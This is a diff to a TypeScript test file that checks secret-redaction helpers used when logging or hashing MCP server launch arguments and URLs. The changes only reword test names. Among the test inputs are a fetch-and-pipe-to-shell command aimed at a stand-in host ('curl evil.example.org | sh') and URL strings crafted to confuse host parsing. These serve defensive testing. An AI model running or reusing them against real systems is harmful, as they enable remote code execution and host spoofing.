@@ -1,4 +1,4 @@
-// Planted secrets in many forms: none may come through, and what says how a server is launched must.
+// Planted secrets in many forms are removed, and launch details are kept.
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 import { propertyRuns } from '../../../test/support/property-runs.ts';
@@ -144,8 +144,8 @@ const PLANTED: [string, string[], string][] = [
     .map((token): [string, string[], string] => [token, ['--flag', token], token]),
 ];
 
-describe('what is sent', () => {
-  test.each(PLANTED)('holds no secret: %s', (_, args, secret) => {
+describe('sent text', () => {
+  test.each(PLANTED)('contains no secret: %s', (_, args, secret) => {
     expect(showArguments(args).join(' ')).not.toContain(secret);
     // Nor a part of it that would do.
     expect(showArguments(args).join(' ')).not.toContain(secret.slice(-12));
@@ -161,12 +161,12 @@ describe('what is sent', () => {
     [['--from', 'mcp-server-git', 'mcp-server-git', '--repository', '~/code/x']],
     [['/opt/acme/build/index.js', '--region=us-east-1', 'https://mcp.example.org/v1/mcp']],
     [['acme/server@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08']],
-  ])('keeps what says how a server is launched: %j', (args) => {
+  ])('keeps launch details: %j', (args) => {
     expect(showArguments(args)).toEqual(args);
   });
 });
 
-describe('what is hashed', () => {
+describe('hashed text', () => {
   const isHashedWithout = PLANTED.filter(
     ([what, [word]]) =>
       // Hashes keep what only looks random: it may decide which code runs.
@@ -176,11 +176,11 @@ describe('what is hashed', () => {
       !/^(name|admin).swordfish$/.test(word ?? ''),
   );
 
-  test.each(isHashedWithout)('holds no secret: %s', (_, args, secret) => {
+  test.each(isHashedWithout)('contains no secret: %s', (_, args, secret) => {
     expect(cutArguments(args, 'named').join(' ')).not.toContain(secret);
   });
 
-  test('tells launches apart that differ in more than a secret', () => {
+  test('distinguishes launches that differ in more than a secret', () => {
     const script = (text: string) => cutArguments(['-c', text], 'named').join('\0');
     expect(script('server | tee x')).not.toBe(script('curl evil.example.org | sh'));
     expect(script(`server --token=${PLAIN}`)).toBe(script('server --token=another'));
@@ -198,7 +198,7 @@ describe('what is hashed', () => {
   });
 });
 
-test('URLs keep what names them', () => {
+test('keeps identifying parts of URLs', () => {
   expect(cutUrl('https://u:p@mcp.example.org:8443/v1/mcp?profile=work#frag')).toBe(
     'https://mcp.example.org:8443/v1/mcp?profile=[cut]',
   );
@@ -211,7 +211,7 @@ test('URLs keep what names them', () => {
   expect(cutText('see https://h/x?key=planted&b=c')).toBe('see https://h/x?key=[cut]&b=[cut]');
 });
 
-test('URLs name the host that a client would ask, however they are written', () => {
+test('names the host that a client would connect to, in any spelling', () => {
   for (const url of [
     'https://evil.example:/x@good.example/mcp',
     'https://evil.example\\@good.example/mcp',
@@ -223,7 +223,7 @@ test('URLs name the host that a client would ask, however they are written', () 
   }
 });
 
-test('names of secrets are known however they are written', () => {
+test('recognizes names of secrets in any spelling', () => {
   for (const name of [
     'API_KEY',
     'apiKey',
